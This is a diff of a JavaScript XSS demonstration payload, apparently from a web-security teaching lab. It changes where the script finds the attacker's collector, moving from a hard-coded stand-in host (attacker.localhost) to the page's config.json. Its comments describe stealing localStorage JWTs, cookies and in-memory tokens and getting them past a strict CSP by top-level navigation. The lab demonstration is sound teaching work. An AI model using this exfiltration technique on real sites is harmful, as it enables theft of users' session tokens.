@@ -1,19 +1,21 @@
-// What script injected into the lab page would do (issue 15). The lab's "run the attacker's
-// script here" control loads this fixed file from the page's own origin, as a module, so the
-// page's strict CSP stays as it is: a real XSS arrives through a bug instead, and the CSP is
-// what usually stops it. Load it as
-//   <script type="module" src="/scripts/xss_payload.js?collector=http://attacker.localhost:5174/collect">
+// What script injected into the lab page would do (issue 15). The lab page's "Attacker's script
+// (XSS demo)" control (components/xss_panel.js) loads this fixed file from the page's own
+// origin, as a module, so the page's strict CSP (script-src 'self') stays as it is: a real XSS
+// arrives through a bug instead (unescaped user content), and the CSP is what usually stops its
+// inline script. Only a person's click on that control runs it.
 //
 // It reads localStorage, tries the cookies, tries the in-memory token, tries the quiet channels
 // (fetch, beacon, image, form post: the lab's CSP refuses each, by connect-src, img-src and
-// form-action 'none', and says so), and then sends what it found to the attacker's collector by
-// a TOP-LEVEL NAVIGATION, which no CSP directive governs.
+// form-action 'none', and says so), and then sends what it found to the attacker's collector
+// (config.json's collectorUrl) by a TOP-LEVEL NAVIGATION, which no CSP directive governs.
 
-const DEFAULT_COLLECTOR = "http://attacker.localhost:5174/collect";
 const TOKENS_KEY = "lab.jwt"; // where web_client/scripts/token_store.js keeps a localStorage pair
 const SNIFF_MS = 3000;
 
-const collector = new URL(import.meta.url).searchParams.get("collector") ?? DEFAULT_COLLECTOR;
+// The page's own configuration names the collector, as it names the API: read it the way the
+// page does (connect-src allows 'self'), before fetch is wrapped below.
+const config = await (await fetch("./config.json", { cache: "no-store" })).json();
+const collector = config.collectorUrl;
 const found = { source: `xss_payload.js on ${location.origin}`, page: location.href };
 
 // 1. localStorage: every key, and the JWT pair if the lab keeps one there.
